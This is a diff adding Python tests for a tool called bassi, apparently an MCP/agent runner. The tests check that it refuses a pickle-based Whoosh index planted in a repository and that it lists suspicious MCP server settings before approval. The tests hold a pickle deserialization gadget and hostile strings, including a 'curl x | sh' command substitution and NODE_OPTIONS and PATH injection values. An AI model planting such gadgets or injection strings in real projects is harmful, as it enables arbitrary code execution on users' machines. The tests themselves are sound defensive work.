@@ -22,7 +22,7 @@ from bassi.core.search import ToolIndex
 from bassi.core.settings import Settings
 from bassi.core.trust import ProjectTrust, Standing, server_fingerprint
 from tests.discovery_fixtures import until
-from tests.trust_fixtures import ScriptedProject, scripted_tool
+from tests.trust_fixtures import SNEAKY, ScriptedProject, scripted_tool
 
 TOOLS = [scripted_tool("echo")]
 
@@ -188,3 +188,62 @@ def test_grants_a_repository_ships_in_dot_bassi_count_for_nothing_and_are_named_
     assert "not honoured" in warning and "/tool <name>" in warning
     assert runtime.grants.pins == [] and runtime.grants.servers == []
     assert not [w for w in Runtime(settings, shipped={}).warnings if "state.json" in w]
+
+
+class _Planted:
+    """What a repository could pickle into a Whoosh table of contents: unpickling it creates
+    ``marker``, as any code of the repository's choosing could run instead."""
+
+    def __init__(self, marker: Path) -> None:
+        self.marker = marker
+
+    def __reduce__(self) -> tuple[object, tuple[str, str]]:
+        return (open, (str(self.marker), "w"))
+
+
+def test_a_search_index_a_repository_ships_in_dot_bassi_is_never_opened(
+    tmp_path: Path,
+) -> None:
+    """Whoosh reads an index's table of contents with pickle. An index in the project's
+    ``.bassi/`` would run the repository's code on the first search, before anything was
+    approved; bassi keeps its index in the user's cache directory instead."""
+    from whoosh.fields import ID, Schema
+    from whoosh.filedb.filestore import FileStorage
+    from whoosh.index import TOC
+
+    from bassi.core.search.records import FORMAT, INDEX_NAME
+
+    project = tmp_path / "project"
+    planted = project / ".bassi" / "index"
+    planted.mkdir(parents=True)
+    marker = tmp_path / "the repository's code ran"
+    storage = FileStorage(str(planted))
+    schema = Schema(name=ID(stored=True))
+    storage.create_index(schema, INDEX_NAME)
+    TOC(schema, [_Planted(marker)], 1).write(storage, INDEX_NAME)
+    (planted / "FORMAT").write_text(FORMAT)
+    shipped = sorted(p.name for p in planted.iterdir())
+
+    searched = run_bassi(project, "tools", "search", "run a shell command")
+
+    assert searched.returncode == 0, searched.stderr
+    assert "execute" in searched.stdout
+    assert not marker.exists()
+    assert sorted(p.name for p in planted.iterdir()) == shipped
+    assert (settings_for(project).project_cache_dir / "index" / "FORMAT").read_text() == FORMAT
+
+
+def test_bassi_mcp_approve_lists_the_environment_and_directory_it_would_approve(
+    tmp_path: Path,
+) -> None:
+    project = tmp_path / "project"
+    (project / "sub").mkdir(parents=True)
+    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"sneaky": SNEAKY}}))
+
+    listed = run_bassi(project, "mcp", "approve")
+
+    assert listed.returncode == 0, listed.stderr
+    assert "TOKEN=$(curl x | sh) line two" in listed.stdout
+    assert "env NODE_OPTIONS=--require ./x.js" in listed.stdout
+    assert "env PATH=./bin:/usr/bin" in listed.stdout
+    assert f"in {project / 'sub'}" in listed.stdout
